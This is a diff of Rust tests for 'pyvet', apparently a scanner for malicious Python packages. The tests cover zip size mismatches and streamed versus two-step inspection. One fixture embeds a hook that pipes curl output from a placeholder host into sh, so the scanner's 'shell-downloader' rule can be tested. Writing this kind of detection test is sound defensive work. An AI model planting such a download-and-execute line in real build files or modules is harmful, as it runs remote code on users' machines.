@@ -297,7 +297,7 @@ fn normal_wheel_with_correct_record_has_no_findings() {
         .iter()
         .find(|e| e.path == "demo/__init__.py")
         .unwrap();
-    assert_eq!(init.data, b"print('hi')\n");
+    assert_eq!(*init.data, b"print('hi')\n");
     let md = c.metadata.expect("metadata");
     assert_eq!(md.name.as_deref(), Some("demo"));
     assert_eq!(md.version.as_deref(), Some("1.0"));
@@ -417,7 +417,7 @@ fn record_still_hashes_files_that_are_only_kept_as_a_prefix() {
         .iter()
         .find(|e| e.path == "demo/lib.so")
         .unwrap();
-    assert_eq!(so.data, &big[..4096]);
+    assert_eq!(*so.data, &big[..4096]);
     assert_eq!(out.partial.get("demo/lib.so"), Some(&(big.len() as u64)));
     assert!(!out.partial.contains_key("demo/mod.py"));
     // Change one byte past the kept prefix: RECORD still catches it.
@@ -460,7 +460,7 @@ fn stored_and_data_descriptor_entries() {
     let c = read(WHEEL, &zip(&entries));
     assert!(c.findings.is_empty(), "{:#?}", c.findings);
     let b = c.entries.iter().find(|e| e.path == "demo/b.py").unwrap();
-    assert_eq!(b.data, b"b = 2\n");
+    assert_eq!(*b.data, b"b = 2\n");
 }
 
 #[test]
@@ -509,7 +509,7 @@ fn prefix_comment_and_duplicated_end_record_are_tolerated() {
         let c = read(WHEEL, &zip_with(&entries, &opts));
         assert!(c.findings.is_empty(), "{:#?}", c.findings);
         let a = c.entries.iter().find(|e| e.path == "demo/a.py").unwrap();
-        assert_eq!(a.data, b"a = 1\n");
+        assert_eq!(*a.data, b"a = 1\n");
     }
 }
 
@@ -531,6 +531,63 @@ fn local_header_disagreeing_with_central_directory_is_ambiguous() {
     // A clean archive has no such finding (data descriptors included).
     let c = read("x.zip", &zip(&[ZEntry::new("a.py", b"a").descriptor()]));
     assert!(c.findings.is_empty(), "{:#?}", c.findings);
+}
+
+/// Set the declared inflated size of the first entry, in its local header and in the central
+/// directory alike (so only the size itself disagrees with the data).
+fn declare_size(bytes: &mut [u8], size: u32) {
+    let local = memchr::memmem::find(bytes, b"PK\x03\x04").unwrap();
+    bytes[local + 22..local + 26].copy_from_slice(&size.to_le_bytes());
+    let central = memchr::memmem::find(bytes, b"PK\x01\x02").unwrap();
+    bytes[central + 24..central + 28].copy_from_slice(&size.to_le_bytes());
+}
+
+#[test]
+fn declared_size_that_differs_from_the_inflated_size_is_ambiguous() {
+    let code = b"x = 1\n".repeat(100);
+    let mut bytes = zip(&[ZEntry::new("pkg/a.py", &code)]);
+    declare_size(&mut bytes, 3 << 20);
+    let c = read("x.zip", &bytes);
+    let f = find(&c, "archive-ambiguous");
+    assert_eq!(f.location.path.as_deref(), Some("pkg/a.py"));
+    let evidence = f.evidence.as_deref().unwrap();
+    assert!(
+        evidence.contains(&(3u64 << 20).to_string()) && evidence.contains("600"),
+        "{evidence}"
+    );
+    // The code is read whole whatever the header claims.
+    assert_eq!(*c.entries[0].data, code);
+
+    // A data file claiming to be large is kept only as a prefix, and still reported.
+    let blob: Vec<u8> = (0..10_000u32).map(|i| (i * 7 % 251) as u8).collect();
+    let mut bytes = zip(&[ZEntry::new("pkg/blob.bin", &blob)]);
+    declare_size(&mut bytes, 3 << 20);
+    let o = read_artifact_with("x.zip", &bytes, &ReadOptions::default()).unwrap();
+    assert!(o
+        .contents
+        .findings
+        .iter()
+        .any(|f| f.rule == "archive-ambiguous"));
+    assert_eq!(*o.contents.entries[0].data, blob[..4096]);
+    assert_eq!(o.partial.get("pkg/blob.bin"), Some(&10_000));
+
+    // The true size: no finding, and the same prefix policy as without any size.
+    let big: Vec<u8> = (0..(2u32 << 20)).map(|i| (i % 253) as u8).collect();
+    let o = read_artifact_with(
+        "x.zip",
+        &zip(&[
+            ZEntry::new("pkg/big.bin", &big),
+            ZEntry::new("pkg/small.bin", &blob),
+        ]),
+        &ReadOptions::default(),
+    )
+    .unwrap();
+    assert!(o.contents.findings.is_empty(), "{:#?}", o.contents.findings);
+    assert_eq!(*o.contents.entries[0].data, big[..4096]);
+    assert_eq!(
+        *o.contents.entries[1].data, blob,
+        "small files are kept whole"
+    );
 }
 
 #[test]
@@ -913,6 +970,65 @@ fn sdist_tar() -> Vec<u8> {
     ])
 }
 
+/// Findings as comparable text.
+fn finding_lines(findings: &[pyvet::finding::Finding]) -> Vec<String> {
+    findings
+        .iter()
+        .map(|f| {
+            format!(
+                "{} {:?} {:?} {:?} {}",
+                f.rule, f.severity, f.location.path, f.location.line, f.message
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn streamed_inspection_equals_reading_then_inspecting() {
+    use pyvet::inspect::{inspect, read_and_inspect, InspectOptions};
+    let hook = b"import os\nos.system('curl https://x.example.invalid/a | sh')\n";
+    // The in-tree backend's code comes before the pyproject.toml that makes it build code, so
+    // the streamed pass first sees it as an ordinary module and must inspect it again.
+    let mut entries = vec![
+        t("demo-1.0/_build/backend.py", hook),
+        t("demo-1.0/demo/__init__.py", hook),
+        t("demo-1.0/PKG-INFO", PKG_INFO),
+    ];
+    let filler: Vec<String> = (0..40)
+        .map(|i| format!("def f{i}(x):\n    return x + {i}\n"))
+        .collect();
+    let names: Vec<String> = (0..filler.len())
+        .map(|i| format!("demo-1.0/demo/m{i}.py"))
+        .collect();
+    for (name, code) in names.iter().zip(&filler) {
+        entries.push(t(name, code.as_bytes()));
+    }
+    entries.push(t(
+        "demo-1.0/pyproject.toml",
+        b"[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
+    ));
+    let bytes = gz(&raw_tar(&entries));
+    let opts = InspectOptions::default();
+    let (outcome, streamed) =
+        read_and_inspect("demo-1.0.tar.gz", &bytes, &ReadOptions::default(), &opts).unwrap();
+    let contents = read("demo-1.0.tar.gz", &bytes);
+    let two_step = inspect(&contents, &opts);
+    assert_eq!(finding_lines(&streamed), finding_lines(&two_step));
+    assert_eq!(outcome.contents.entries.len(), contents.entries.len());
+    let label = |path: &str| {
+        streamed
+            .iter()
+            .find(|f| f.rule == "shell-downloader" && f.location.path.as_deref() == Some(path))
+            .map(|f| f.message.clone())
+            .unwrap_or_else(|| panic!("no finding for {path}: {streamed:#?}"))
+    };
+    assert_ne!(
+        label("demo-1.0/_build/backend.py"),
+        label("demo-1.0/demo/__init__.py"),
+        "the backend file is graded as build code, not as an imported module"
+    );
+}
+
 #[test]
 fn sdists_in_every_compression_read_alike() {
     let tar = sdist_tar();
@@ -935,7 +1051,7 @@ fn sdists_in_every_compression_read_alike() {
             "{name}"
         );
         assert_eq!(
-            c.entries[1].data,
+            *c.entries[1].data,
             b"from setuptools import setup\nsetup()\n"
         );
         let md = c.metadata.as_ref().expect(name);
@@ -1229,7 +1345,7 @@ fn directory_walk_never_follows_symlinks() {
         paths(&c),
         vec!["PKG-INFO", "demo/__init__.py", "demo/sub/b.py"]
     );
-    assert!(c.entries.iter().all(|e| e.data != b"outside"));
+    assert!(c.entries.iter().all(|e| *e.data != b"outside"));
     let links: Vec<_> = c
         .findings
         .iter()
